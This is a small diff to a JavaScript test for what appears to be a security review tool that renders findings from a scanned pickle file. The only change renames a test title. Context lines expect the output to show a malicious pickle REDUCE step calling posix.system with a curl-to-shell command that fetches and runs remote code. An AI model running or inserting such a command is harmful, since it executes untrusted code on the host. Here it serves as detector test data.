@@ -45,7 +45,7 @@ describe('the review', () => {
     );
   });
 
-  it('shows what stands where a finding points, and what pardons it', () => {
+  it('shows what stands where a finding points, and what waives it', () => {
     const text = section(parseHtml(mixedReview()), 'findings');
     expect(text).toContain("▸42 REDUCE # posix.system('curl https://example.org/x | sh')");
     expect(text).toContain('▸00000000 80 04 95 2a 00 00 00 63 ···*···c');
